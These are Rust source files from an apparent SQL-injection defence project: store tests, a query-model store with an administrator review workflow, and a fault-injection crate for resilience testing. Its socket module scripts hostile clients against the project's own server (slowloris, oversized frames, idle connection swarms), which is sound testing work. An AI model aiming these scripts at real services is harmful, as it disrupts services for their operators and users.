        assert_eq!(store.get(&id(1)).as_deref(), Some(&m));
    }

    #[test]
    fn get_is_a_shared_handle_not_a_clone() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT 1"));
        let a = store.get(&id(1)).expect("model");
        let b = store.get(&id(1)).expect("model");
        assert!(
            Arc::ptr_eq(&a, &b),
            "get() must return the stored Arc, not a deep clone"
        );
    }

    #[test]
    fn forget_removes() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT 1"));
        assert!(store.forget(&id(1)));
        assert!(!store.forget(&id(1)));
        assert!(store.is_empty());
    }

    #[test]
    fn json_round_trip() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT a FROM t WHERE x = 'v'"));
        store.learn(
            QueryId {
                external: Some("login".into()),
                internal: 7,
            },
            model("SELECT b FROM u"),
        );
        let json = store.to_json().expect("serialize");
        let restored = ModelStore::new();
        assert_eq!(restored.load_json(&json).expect("load"), 2);
        assert_eq!(restored.len(), 2);
        assert_eq!(restored.get(&id(1)), store.get(&id(1)));
    }

    #[test]
    fn file_round_trip() {
        let store = ModelStore::new();
        store.learn(id(42), model("SELECT 1"));
        let path = scratch("file_round_trip");
        store.save_to(&path).expect("save");
        // The file carries the versioned envelope.
        let raw = std::fs::read_to_string(&path).unwrap();
        assert!(raw.starts_with("SEPTIC-STORE v3 crc32="));
        let restored = ModelStore::new();
        let report = restored.load_from(&path).expect("load");
        assert_eq!(report.models_loaded, 1);
        assert!(!report.recovered);
        assert!(restored.contains(&id(42)));
        cleanup(&path);
    }

    #[test]
    fn v2_envelope_file_and_journal_still_load() {
        // Write a store file the way the pre-VM code did: a v2 envelope
        // (same payload schema) plus a journal of later mutations. The
        // v3 loader must replay it cleanly and recompile programs.
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT a FROM t WHERE x = 'v'"));
        let payload = store.to_json().expect("serialize");
        let sealed_v2 = format!(
            "{ENVELOPE_MAGIC} v2 crc32={:08x} len={}\n{payload}",
            crc32(payload.as_bytes()),
            payload.len()
        );
        let path = scratch("v2_envelope_file_and_journal_still_load");
        std::fs::write(&path, sealed_v2).unwrap();
        let journal_line = serde_json::to_string(&JournalOp::Learn {
            id: id(2),
            model: Arc::new(model("SELECT b FROM u WHERE y = 9")),
        })
        .unwrap();
        std::fs::write(journal_path(&path), format!("{journal_line}\n")).unwrap();

        let restored = ModelStore::new();
        let report = restored.load_from(&path).expect("v2 file loads");
        assert_eq!(report.models_loaded, 1);
        assert_eq!(report.journal_replayed, 1);
        assert!(!report.recovered);
        assert!(restored.contains(&id(1)));
        assert!(restored.contains(&id(2)));
        // Both models got fresh programs compiled on load.
        assert_eq!(restored.compile_count(), 2);
        assert!(restored.get_compiled(&id(2)).is_some());
        cleanup(&path);
    }

    #[test]
    fn future_envelope_versions_are_rejected() {
        let payload = "{}";
        let sealed = format!(
            "{ENVELOPE_MAGIC} v9 crc32={:08x} len={}\n{payload}",
            crc32(payload.as_bytes()),
            payload.len()
        );
        let err = unseal(sealed.as_bytes()).expect_err("v9 must not load");
        assert!(err.contains("unsupported store version"));
    }

    #[test]
    fn compiled_program_is_cached_and_never_serialized() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT a FROM t WHERE x = 'v'"));
        assert_eq!(store.compile_count(), 1);
        let a = store.get_compiled(&id(1)).expect("compiled");
        let b = store.get_compiled(&id(1)).expect("compiled");
        assert!(
            Arc::ptr_eq(a.program(), b.program()),
            "get_compiled() must share the cached program, not recompile"
        );
        assert_eq!(store.compile_count(), 1, "lookups never compile");
        // The serialized form carries models only; programs are derived.
        let json = store.to_json().expect("serialize");
        assert!(!json.contains("program"), "programs must not serialize");
    }

    #[test]
    fn load_replaces_existing_content() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT 1"));
        let json = store.to_json().unwrap();
        store.clear();
        store.learn(id(99), model("SELECT 2"));
        store.load_json(&json).unwrap();
        assert!(store.contains(&id(1)));
        assert!(!store.contains(&id(99)));
    }

    #[test]
    fn bad_json_is_an_error() {
        let store = ModelStore::new();
        assert!(store.load_json("not json").is_err());
    }

    #[test]
    fn provisional_models_await_review() {
        let store = ModelStore::new();
        assert!(store.learn_provisional(id(1), model("SELECT 1")));
        assert!(!store.learn_provisional(id(1), model("SELECT 1")));
        assert!(store.contains(&id(1)), "usable immediately");
        assert_eq!(store.pending_review(), vec![id(1)]);
    }

    #[test]
    fn approve_keeps_the_model() {
        let store = ModelStore::new();
        store.learn_provisional(id(1), model("SELECT 1"));
        assert!(store.approve(&id(1)));
        assert!(!store.approve(&id(1)));
        assert!(store.pending_review().is_empty());
        assert!(store.contains(&id(1)));
        assert!(!store.is_rejected(&id(1)));
    }

    #[test]
    fn reject_removes_and_blacklists() {
        let store = ModelStore::new();
        store.learn_provisional(id(2), model("SELECT 2"));
        assert!(store.reject(&id(2)));
        assert!(!store.contains(&id(2)));
        assert!(store.is_rejected(&id(2)));
        assert!(store.pending_review().is_empty());
    }

    #[test]
    fn trained_models_skip_quarantine() {
        let store = ModelStore::new();
        store.learn(id(3), model("SELECT 3"));
        assert!(store.pending_review().is_empty());
    }

    #[test]
    fn explicit_retraining_lifts_a_rejection() {
        let store = ModelStore::new();
        store.learn_provisional(id(1), model("SELECT 1"));
        store.reject(&id(1));
        assert!(store.is_rejected(&id(1)));
        // The administrator retrains the (updated) application: the shape
        // is benign again.
        assert!(store.learn(id(1), model("SELECT 1")));
        assert!(!store.is_rejected(&id(1)));
        assert!(store.contains(&id(1)));
    }

    #[test]
    fn review_state_persists() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT 1"));
        store.learn_provisional(id(2), model("SELECT 2"));
        store.learn_provisional(id(3), model("SELECT 3"));
        store.reject(&id(3));
        let json = store.to_json().unwrap();
        let restored = ModelStore::new();
        restored.load_json(&json).unwrap();
        assert_eq!(restored.pending_review(), vec![id(2)]);
        assert!(restored.is_rejected(&id(3)));
        assert!(restored.contains(&id(1)) && restored.contains(&id(2)));
    }

    #[test]
    fn old_persisted_format_still_loads() {
        // Files written before the review workflow lack the new fields.
        let legacy = r#"{"models": []}"#;
        let store = ModelStore::new();
        assert_eq!(store.load_json(legacy).unwrap(), 0);
    }

    #[test]
    fn legacy_envelope_free_file_still_loads() {
        // A v1 file is the bare JSON payload, no envelope header.
        let path = scratch("legacy_envelope_free");
        let store = ModelStore::new();
        store.learn(id(5), model("SELECT 5"));
        std::fs::write(&path, store.to_json().unwrap()).unwrap();
        let restored = ModelStore::new();
        let report = restored.load_from(&path).expect("load legacy");
        assert_eq!(report.models_loaded, 1);
        assert!(!report.recovered);
        assert!(restored.contains(&id(5)));
        cleanup(&path);
    }

    #[test]
    fn crc32_known_vector() {
        // The IEEE check value for "123456789".
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
    }

    #[test]
    fn seal_unseal_round_trip_and_detects_flips() {
        let sealed = seal(r#"{"models": []}"#);
        assert_eq!(unseal(&sealed).unwrap(), r#"{"models": []}"#);
        let mut flipped = sealed.clone();
        let last = flipped.len() - 1;
        flipped[last] ^= 0x01;
        let err = unseal(&flipped).unwrap_err();
        assert!(err.contains("checksum mismatch"), "{err}");
        let mut truncated = sealed;
        truncated.truncate(truncated.len() - 2);
        let err = unseal(&truncated).unwrap_err();
        assert!(err.contains("length mismatch"), "{err}");
    }

    #[test]
    fn corrupt_snapshot_is_quarantined_and_recovered_from_backup() {
        let path = scratch("corrupt_recovers");
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT 1"));
        store.save_to(&path).unwrap();
        store.learn(id(2), model("SELECT 2"));
        store.save_to(&path).unwrap(); // main = {1,2}, bak = {1}

        // Bit-rot the committed snapshot (keeping it valid UTF-8 so the
        // checksum, not the string decoder, is what catches it).
        let mut bytes = std::fs::read(&path).unwrap();
        let last = bytes.len() - 1;
        bytes[last] ^= 0x01;
        std::fs::write(&path, &bytes).unwrap();

        let restored = ModelStore::new();
        let report = restored.load_from(&path).expect("recovering load");
        assert!(report.recovered);
        assert!(report.corruption.unwrap().contains("checksum mismatch"));
        // Recovered the previous snapshot rather than erroring or
        // returning garbage.
        assert!(restored.contains(&id(1)));
        // The bad file is preserved for inspection.
        assert!(quarantine_path(&path).exists());
        assert!(!path.exists());
        cleanup(&path);
    }

    #[test]
    fn journal_replays_mutations_since_checkpoint() {
        let path = scratch("journal_replay");
        let backend: Arc<dyn StoreBackend> = Arc::new(FsBackend);
        let store = ModelStore::new();
        store.attach_persistence(backend, &path);
        store.learn(id(1), model("SELECT 1"));
        store.save_to(&path).unwrap(); // checkpoint: journal cleared
        assert!(!journal_path(&path).exists());

        // Mutations after the checkpoint are journaled…
        store.learn_provisional(id(2), model("SELECT 2"));
        store.reject(&id(2));
        store.learn_provisional(id(3), model("SELECT 3"));
        assert!(journal_path(&path).exists());

        // …and a "crashed" process's replacement store replays them.
        let fresh = ModelStore::new();
        let report = fresh.load_from(&path).expect("load");
        assert_eq!(report.models_loaded, 1);
        assert_eq!(report.journal_replayed, 3);
        assert!(!report.recovered);
        assert!(fresh.contains(&id(1)));
        assert!(fresh.is_rejected(&id(2)));
        assert!(!fresh.contains(&id(2)));
        assert_eq!(fresh.pending_review(), vec![id(3)]);
        assert_eq!(store.journal_errors(), 0);
        cleanup(&path);
    }

    #[test]
    fn torn_trailing_journal_line_is_tolerated() {
        let path = scratch("torn_journal");
        let backend: Arc<dyn StoreBackend> = Arc::new(FsBackend);
        let store = ModelStore::new();
        store.attach_persistence(backend.clone(), &path);
        store.save_to(&path).unwrap();
        store.learn(id(1), model("SELECT 1"));
        // Simulate a crash mid-append: a half-written JSON line.
        backend
            .append_line(&journal_path(&path), r#"{"Learn": {"id"#)
            .unwrap();

        let fresh = ModelStore::new();
        let report = fresh.load_from(&path).expect("load");
        assert_eq!(report.journal_replayed, 1);
        assert_eq!(report.torn_journal_lines, 1);
        assert!(fresh.contains(&id(1)));
        cleanup(&path);
    }

    #[test]
    fn missing_everything_is_still_an_error() {
        let path = scratch("missing_all");
        cleanup(&path);
        let store = ModelStore::new();
        let err = store.load_from(&path).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::NotFound);
    }

    #[test]
    fn save_is_atomic_no_temp_left_behind() {
        let path = scratch("atomic_save");
        let store = ModelStore::new();
        store.learn(id(7), model("SELECT 7"));
        store.save_to(&path).unwrap();
        assert!(!tmp_path(&path).exists());
        assert!(path.exists());
        cleanup(&path);
    }
}
