//! The **QM learned** store: query models indexed by query identifier,
//! kept in memory and optionally persisted ("All query models are in memory
//! and are stored persistently" — Section IV-C).
//!
//! Models learned *incrementally* in normal mode are held in
//! **quarantine** until the administrator decides whether the query that
//! produced them was benign (approve) or malicious (reject) — the
//! Section II-E workflow: "Later, the programmer/administrator will have
//! to decide if the query model comes from a malicious or a benign query."
//! Rejected identifiers are remembered: the same query arriving again is
//! refused instead of being re-learned.

use std::collections::{HashMap, HashSet};
use std::io;
use std::path::Path;

use parking_lot::RwLock;
use serde::{Deserialize, Serialize};

use crate::id::QueryId;
use crate::model::QueryModel;

/// Thread-safe store of learned query models plus the administrative
/// review state for incrementally-learned ones.
#[derive(Debug, Default)]
pub struct ModelStore {
    models: RwLock<HashMap<QueryId, QueryModel>>,
    /// Incrementally-learned models awaiting administrator review.
    quarantine: RwLock<HashSet<QueryId>>,
    /// Identifiers the administrator rejected as malicious.
    rejected: RwLock<HashSet<QueryId>>,
}

/// Serialized form of the store.
#[derive(Debug, Serialize, Deserialize)]
struct PersistedStore {
    models: Vec<(QueryId, QueryModel)>,
    #[serde(default)]
    quarantine: Vec<QueryId>,
    #[serde(default)]
    rejected: Vec<QueryId>,
}

impl ModelStore {
    /// Creates an empty store.
    #[must_use]
    pub fn new() -> Self {
        ModelStore::default()
    }

    /// Looks up the model for an identifier.
    #[must_use]
    pub fn get(&self, id: &QueryId) -> Option<QueryModel> {
        self.models.read().get(id).cloned()
    }

    /// True when a model exists for the identifier.
    #[must_use]
    pub fn contains(&self, id: &QueryId) -> bool {
        self.models.read().contains_key(id)
    }

    /// Stores a model from an explicit training run. Returns `true` when
    /// the model is new, `false` when a model with this identifier already
    /// existed (the paper: a query processed twice creates its model only
    /// once). Training expresses the administrator's intent that the query
    /// is benign, so a previous rejection of the identifier is lifted.
    pub fn learn(&self, id: QueryId, model: QueryModel) -> bool {
        self.rejected.write().remove(&id);
        let mut models = self.models.write();
        if models.contains_key(&id) {
            return false;
        }
        models.insert(id, model);
        true
    }

    /// Stores a model learned *incrementally* (normal mode, unknown
    /// query): it is usable immediately but also placed in quarantine for
    /// administrator review. Returns `true` when the model is new.
    pub fn learn_provisional(&self, id: QueryId, model: QueryModel) -> bool {
        let mut models = self.models.write();
        if models.contains_key(&id) {
            return false;
        }
        models.insert(id.clone(), model);
        self.quarantine.write().insert(id);
        true
    }

    /// Identifiers awaiting administrator review.
    #[must_use]
    pub fn pending_review(&self) -> Vec<QueryId> {
        let mut ids: Vec<QueryId> = self.quarantine.read().iter().cloned().collect();
        ids.sort_by_key(|id| (id.external.clone(), id.internal));
        ids
    }

    /// Administrator verdict: the incrementally-learned query was benign.
    /// The model leaves quarantine and becomes permanent. Returns `false`
    /// when the id was not pending.
    pub fn approve(&self, id: &QueryId) -> bool {
        self.quarantine.write().remove(id)
    }

    /// Administrator verdict: the incrementally-learned query was
    /// malicious. The model is removed and the identifier blacklisted so
    /// the same query is refused instead of re-learned. Returns `false`
    /// when the id was unknown.
    pub fn reject(&self, id: &QueryId) -> bool {
        self.quarantine.write().remove(id);
        let existed = self.models.write().remove(id).is_some();
        self.rejected.write().insert(id.clone());
        existed
    }

    /// True when the administrator has rejected this identifier.
    #[must_use]
    pub fn is_rejected(&self, id: &QueryId) -> bool {
        self.rejected.read().contains(id)
    }

    /// Removes a model (the administrator decided a learned query was
    /// malicious — Section II-E).
    pub fn forget(&self, id: &QueryId) -> bool {
        self.models.write().remove(id).is_some()
    }

    /// Number of learned models.
    #[must_use]
    pub fn len(&self) -> usize {
        self.models.read().len()
    }

    /// True when nothing has been learned.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.models.read().is_empty()
    }

    /// Drops every learned model and all review state.
    pub fn clear(&self) {
        self.models.write().clear();
        self.quarantine.write().clear();
        self.rejected.write().clear();
    }

    /// Snapshot of all identifiers.
    #[must_use]
    pub fn ids(&self) -> Vec<QueryId> {
        self.models.read().keys().cloned().collect()
    }

    /// Serializes the store to JSON.
    ///
    /// # Errors
    ///
    /// Propagates serializer errors.
    pub fn to_json(&self) -> serde_json::Result<String> {
        let models = self.models.read();
        let mut list: Vec<(QueryId, QueryModel)> =
            models.iter().map(|(k, v)| (k.clone(), v.clone())).collect();
        list.sort_by_key(|(k, _)| (k.external.clone(), k.internal));
        let mut quarantine: Vec<QueryId> = self.quarantine.read().iter().cloned().collect();
        quarantine.sort_by_key(|k| (k.external.clone(), k.internal));
        let mut rejected: Vec<QueryId> = self.rejected.read().iter().cloned().collect();
        rejected.sort_by_key(|k| (k.external.clone(), k.internal));
        serde_json::to_string_pretty(&PersistedStore { models: list, quarantine, rejected })
    }

    /// Replaces the store contents from JSON produced by
    /// [`ModelStore::to_json`].
    ///
    /// # Errors
    ///
    /// Propagates deserializer errors.
    pub fn load_json(&self, json: &str) -> serde_json::Result<usize> {
        let persisted: PersistedStore = serde_json::from_str(json)?;
        let mut models = self.models.write();
        models.clear();
        let n = persisted.models.len();
        models.extend(persisted.models);
        *self.quarantine.write() = persisted.quarantine.into_iter().collect();
        *self.rejected.write() = persisted.rejected.into_iter().collect();
        Ok(n)
    }

    /// Persists the store to a file.
    ///
    /// # Errors
    ///
    /// I/O errors; serialization errors are surfaced as
    /// [`io::ErrorKind::InvalidData`].
    pub fn save_to(&self, path: &Path) -> io::Result<()> {
        let json = self
            .to_json()
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
        std::fs::write(path, json)
    }

    /// Loads the store from a file written by [`ModelStore::save_to`].
    ///
    /// # Errors
    ///
    /// I/O errors; malformed content surfaces as
    /// [`io::ErrorKind::InvalidData`].
    pub fn load_from(&self, path: &Path) -> io::Result<usize> {
        let json = std::fs::read_to_string(path)?;
        self.load_json(&json)
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use septic_sql::{items, parse};

    fn model(sql: &str) -> QueryModel {
        QueryModel::from_structure(&items::lower_all(&parse(sql).expect("parse").statements))
    }

    fn id(n: u64) -> QueryId {
        QueryId { external: None, internal: n }
    }

    #[test]
    fn learn_once_only() {
        let store = ModelStore::new();
        let m = model("SELECT 1");
        assert!(store.learn(id(1), m.clone()));
        assert!(!store.learn(id(1), m.clone()));
        assert_eq!(store.len(), 1);
        assert!(store.contains(&id(1)));
        assert_eq!(store.get(&id(1)), Some(m));
    }

    #[test]
    fn forget_removes() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT 1"));
        assert!(store.forget(&id(1)));
        assert!(!store.forget(&id(1)));
        assert!(store.is_empty());
    }

    #[test]
    fn json_round_trip() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT a FROM t WHERE x = 'v'"));
        store.learn(
            QueryId { external: Some("login".into()), internal: 7 },
            model("SELECT b FROM u"),
        );
        let json = store.to_json().expect("serialize");
        let restored = ModelStore::new();
        assert_eq!(restored.load_json(&json).expect("load"), 2);
        assert_eq!(restored.len(), 2);
        assert_eq!(restored.get(&id(1)), store.get(&id(1)));
    }

    #[test]
    fn file_round_trip() {
        let store = ModelStore::new();
        store.learn(id(42), model("SELECT 1"));
        let dir = std::env::temp_dir().join("septic-store-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("models.json");
        store.save_to(&path).expect("save");
        let restored = ModelStore::new();
        assert_eq!(restored.load_from(&path).expect("load"), 1);
        assert!(restored.contains(&id(42)));
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn load_replaces_existing_content() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT 1"));
        let json = store.to_json().unwrap();
        store.clear();
        store.learn(id(99), model("SELECT 2"));
        store.load_json(&json).unwrap();
        assert!(store.contains(&id(1)));
        assert!(!store.contains(&id(99)));
    }

    #[test]
    fn bad_json_is_an_error() {
        let store = ModelStore::new();
        assert!(store.load_json("not json").is_err());
    }

    #[test]
    fn provisional_models_await_review() {
        let store = ModelStore::new();
        assert!(store.learn_provisional(id(1), model("SELECT 1")));
        assert!(!store.learn_provisional(id(1), model("SELECT 1")));
        assert!(store.contains(&id(1)), "usable immediately");
        assert_eq!(store.pending_review(), vec![id(1)]);
    }

    #[test]
    fn approve_keeps_the_model() {
        let store = ModelStore::new();
        store.learn_provisional(id(1), model("SELECT 1"));
        assert!(store.approve(&id(1)));
        assert!(!store.approve(&id(1)));
        assert!(store.pending_review().is_empty());
        assert!(store.contains(&id(1)));
        assert!(!store.is_rejected(&id(1)));
    }

    #[test]
    fn reject_removes_and_blacklists() {
        let store = ModelStore::new();
        store.learn_provisional(id(2), model("SELECT 2"));
        assert!(store.reject(&id(2)));
        assert!(!store.contains(&id(2)));
        assert!(store.is_rejected(&id(2)));
        assert!(store.pending_review().is_empty());
    }

    #[test]
    fn trained_models_skip_quarantine() {
        let store = ModelStore::new();
        store.learn(id(3), model("SELECT 3"));
        assert!(store.pending_review().is_empty());
    }

    #[test]
    fn explicit_retraining_lifts_a_rejection() {
        let store = ModelStore::new();
        store.learn_provisional(id(1), model("SELECT 1"));
        store.reject(&id(1));
        assert!(store.is_rejected(&id(1)));
        // The administrator retrains the (updated) application: the shape
        // is benign again.
        assert!(store.learn(id(1), model("SELECT 1")));
        assert!(!store.is_rejected(&id(1)));
        assert!(store.contains(&id(1)));
    }

    #[test]
    fn review_state_persists() {
        let store = ModelStore::new();
        store.learn(id(1), model("SELECT 1"));
        store.learn_provisional(id(2), model("SELECT 2"));
        store.learn_provisional(id(3), model("SELECT 3"));
        store.reject(&id(3));
        let json = store.to_json().unwrap();
        let restored = ModelStore::new();
        restored.load_json(&json).unwrap();
        assert_eq!(restored.pending_review(), vec![id(2)]);
        assert!(restored.is_rejected(&id(3)));
        assert!(restored.contains(&id(1)) && restored.contains(&id(2)));
    }

    #[test]
    fn old_persisted_format_still_loads() {
        // Files written before the review workflow lack the new fields.
        let legacy = r#"{"models": []}"#;
        let store = ModelStore::new();
        assert_eq!(store.load_json(legacy).unwrap(), 0);
    }
}
