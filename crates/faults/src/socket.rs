//! Scripted socket faults against the framed TCP front end.
//!
//! Each script is one hostile client behavior, performed deterministically
//! (no timers beyond the explicit holds, no randomness). They assert
//! nothing themselves — the caller checks the server-side invariants: the
//! listener keeps accepting, the active-connection gauge returns to zero,
//! and the right counters moved.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::time::Duration;

use septic_net::frame::FRAME_HEADER_LEN;

/// What a fault script observed from the server.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SocketFaultOutcome {
    /// The server closed the connection (EOF on read).
    ServerClosed,
    /// The server answered with raw frame bytes before we gave up
    /// (length-prefixed payload, undecoded).
    ServerAnswered(Vec<u8>),
    /// The read timed out while the connection stayed open.
    StillOpen,
}

/// Reads whatever the server sends within `wait`, classifying the result.
fn drain(stream: &mut TcpStream, wait: Duration) -> SocketFaultOutcome {
    let _ = stream.set_read_timeout(Some(wait));
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        match stream.read(&mut chunk) {
            Ok(0) => {
                return if buf.is_empty() {
                    SocketFaultOutcome::ServerClosed
                } else {
                    SocketFaultOutcome::ServerAnswered(buf)
                }
            }
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(_) => {
                return if buf.is_empty() {
                    SocketFaultOutcome::StillOpen
                } else {
                    SocketFaultOutcome::ServerAnswered(buf)
                }
            }
        }
    }
}

/// Mid-frame disconnect: declares a payload, sends half of it, and drops
/// the connection. The server must treat this as one failed connection —
/// never as a listener or worker failure.
///
/// # Errors
///
/// Connect/write failures reaching the server at all.
pub fn mid_frame_disconnect(addr: SocketAddr) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(addr)?;
    let declared: u32 = 64;
    stream.write_all(&declared.to_be_bytes())?;
    stream.write_all(&[b'{'; 32])?; // half the declared payload
    stream.flush()?;
    let _ = stream.shutdown(Shutdown::Both);
    Ok(())
}

/// Slowloris: sends a *partial frame header* and then holds the socket
/// without ever completing it. A correct server frees the worker via its
/// read timeout; the script reports whether the server had hung up by the
/// time `hold` elapsed.
///
/// # Errors
///
/// Connect/write failures reaching the server at all.
pub fn slowloris_header(addr: SocketAddr, hold: Duration) -> std::io::Result<SocketFaultOutcome> {
    let mut stream = TcpStream::connect(addr)?;
    stream.write_all(&[0u8; FRAME_HEADER_LEN / 2])?;
    stream.flush()?;
    Ok(drain(&mut stream, hold))
}

/// Oversized frame: declares a payload far over any sane limit. The
/// server must reject from the header alone — before allocating — and
/// the script returns what came back (an error frame, or a straight
/// close).
///
/// # Errors
///
/// Connect/write failures reaching the server at all.
pub fn oversized_frame(addr: SocketAddr, wait: Duration) -> std::io::Result<SocketFaultOutcome> {
    let mut stream = TcpStream::connect(addr)?;
    stream.write_all(&u32::MAX.to_be_bytes())?;
    stream.flush()?;
    Ok(drain(&mut stream, wait))
}

/// Opens `count` connections that never handshake and never send a
/// byte — a parked swarm for idle-connection cost and capacity tests.
/// The holders are returned so the caller controls their lifetime; the
/// connect burst is paced so the server's accept path (not the kernel
/// backlog) absorbs the swarm.
///
/// # Errors
///
/// Connect failures reaching the server at all.
pub fn idle_swarm(addr: SocketAddr, count: usize) -> std::io::Result<Vec<TcpStream>> {
    let mut swarm = Vec::with_capacity(count);
    for i in 0..count {
        swarm.push(TcpStream::connect(addr)?);
        if i % 64 == 63 {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    Ok(swarm)
}

/// Garbage payload: a well-framed frame whose payload is not JSON. The
/// server must count a decode error and close this connection only.
///
/// # Errors
///
/// Connect/write failures reaching the server at all.
pub fn garbage_payload(addr: SocketAddr, wait: Duration) -> std::io::Result<SocketFaultOutcome> {
    let mut stream = TcpStream::connect(addr)?;
    let payload = b"\x00\xffnot json at all";
    stream.write_all(&(payload.len() as u32).to_be_bytes())?;
    stream.write_all(payload)?;
    stream.flush()?;
    Ok(drain(&mut stream, wait))
}
