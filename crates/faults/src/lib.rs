//! # septic-faults
//!
//! Deterministic fault injection for the SEPTIC fail-safe layer: the test
//! doubles that break things on purpose, so the fault-tolerance claims in
//! the design (panic isolation, failure policies, crash-safe persistence)
//! are demonstrated rather than asserted.
//!
//! * [`MemBackend`] — an in-memory [`StoreBackend`] for hermetic
//!   persistence tests;
//! * [`FaultyBackend`] — wraps any backend and fails *scripted* operations
//!   (I/O error, torn write, **silent** torn write) exactly once each;
//! * [`FaultyIo`] — the same scripted faults against the DBMS's
//!   [`StorageIo`] (WAL appends, checkpoint writes, recovery reads), for
//!   crash-safety tests of the durability layer;
//! * [`PanickingGuard`] — a [`QueryGuard`] that always panics, with a
//!   chosen failure policy;
//! * [`PanickingPlugin`] — a stored-injection plugin that panics during
//!   confirmation;
//! * [`SlowPlugin`] — a plugin that sleeps through its scan, blowing any
//!   configured detection deadline.
//! * [`socket`] — scripted socket faults against the framed TCP front
//!   end (mid-frame disconnect, slowloris partial header, oversized
//!   frame, garbage payload).
//!
//! Everything is deterministic: faults fire on the n-th occurrence of an
//! operation kind, not on timers or randomness.

pub mod socket;

use std::collections::HashMap;
use std::io;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use parking_lot::Mutex;
use septic::{Plugin, StoreBackend, StoredAttack};
use septic_dbms::{FailurePolicy, GuardDecision, QueryContext, QueryGuard, StorageIo};

// ---------------------------------------------------------------------------
// In-memory backend
// ---------------------------------------------------------------------------

/// An in-memory filesystem for the model store: hermetic, inspectable,
/// and fast enough for property tests.
#[derive(Debug, Default)]
pub struct MemBackend {
    files: Mutex<HashMap<PathBuf, Vec<u8>>>,
}

impl MemBackend {
    /// Creates an empty in-memory filesystem.
    #[must_use]
    pub fn new() -> Self {
        MemBackend::default()
    }

    /// The files currently stored (path → size), for assertions.
    #[must_use]
    pub fn listing(&self) -> Vec<(PathBuf, usize)> {
        let mut list: Vec<(PathBuf, usize)> = self
            .files
            .lock()
            .iter()
            .map(|(p, d)| (p.clone(), d.len()))
            .collect();
        list.sort();
        list
    }

    /// Raw contents of a file, if present.
    #[must_use]
    pub fn contents(&self, path: &Path) -> Option<Vec<u8>> {
        self.files.lock().get(path).cloned()
    }

    /// Overwrites a file directly (e.g. to plant corruption).
    pub fn plant(&self, path: &Path, data: impl Into<Vec<u8>>) {
        self.files.lock().insert(path.to_path_buf(), data.into());
    }
}

impl StoreBackend for MemBackend {
    fn read(&self, path: &Path) -> io::Result<Vec<u8>> {
        self.files
            .lock()
            .get(path)
            .cloned()
            .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, format!("{}", path.display())))
    }

    fn write(&self, path: &Path, data: &[u8]) -> io::Result<()> {
        self.files.lock().insert(path.to_path_buf(), data.to_vec());
        Ok(())
    }

    fn append_line(&self, path: &Path, line: &str) -> io::Result<()> {
        let mut files = self.files.lock();
        let file = files.entry(path.to_path_buf()).or_default();
        file.extend_from_slice(line.as_bytes());
        file.push(b'\n');
        Ok(())
    }

    fn rename(&self, from: &Path, to: &Path) -> io::Result<()> {
        let mut files = self.files.lock();
        let data = files.remove(from).ok_or_else(|| {
            io::Error::new(io::ErrorKind::NotFound, format!("{}", from.display()))
        })?;
        files.insert(to.to_path_buf(), data);
        Ok(())
    }

    fn exists(&self, path: &Path) -> bool {
        self.files.lock().contains_key(path)
    }

    fn remove(&self, path: &Path) -> io::Result<()> {
        self.files
            .lock()
            .remove(path)
            .map(|_| ())
            .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, format!("{}", path.display())))
    }
}

// ---------------------------------------------------------------------------
// Scripted fault injection
// ---------------------------------------------------------------------------

/// The kind of backend operation a fault is scripted against.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum OpKind {
    Read,
    Write,
    AppendLine,
    Rename,
    Remove,
}

/// What an injected fault does to the targeted operation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fault {
    /// The operation fails with an I/O error and has no effect.
    Error,
    /// A write/append persists only the first `keep` bytes, then reports
    /// an error (the process "crashed" mid-write).
    Torn { keep: usize },
    /// A write/append persists only the first `keep` bytes but reports
    /// **success** — the classic torn write only a checksum can catch.
    SilentTorn { keep: usize },
}

/// Wraps a backend and injects scripted faults: each `(op, nth)` entry
/// fires exactly once, on the nth call (0-based) of that operation kind.
/// Operations without a scripted fault pass through untouched.
#[derive(Debug)]
pub struct FaultyBackend {
    inner: Arc<dyn StoreBackend>,
    plan: Mutex<HashMap<(OpKind, u64), Fault>>,
    counts: Mutex<HashMap<OpKind, u64>>,
    injected: Mutex<Vec<(OpKind, u64, Fault)>>,
}

impl FaultyBackend {
    /// Wraps `inner` with an empty fault plan.
    #[must_use]
    pub fn new(inner: Arc<dyn StoreBackend>) -> Self {
        FaultyBackend {
            inner,
            plan: Mutex::new(HashMap::new()),
            counts: Mutex::new(HashMap::new()),
            injected: Mutex::new(Vec::new()),
        }
    }

    /// Scripts `fault` to fire on the `nth` (0-based) call of `op`.
    pub fn inject(&self, op: OpKind, nth: u64, fault: Fault) {
        self.plan.lock().insert((op, nth), fault);
    }

    /// Builder form of [`FaultyBackend::inject`].
    #[must_use]
    pub fn with_fault(self, op: OpKind, nth: u64, fault: Fault) -> Self {
        self.inject(op, nth, fault);
        self
    }

    /// The faults that actually fired, in order.
    #[must_use]
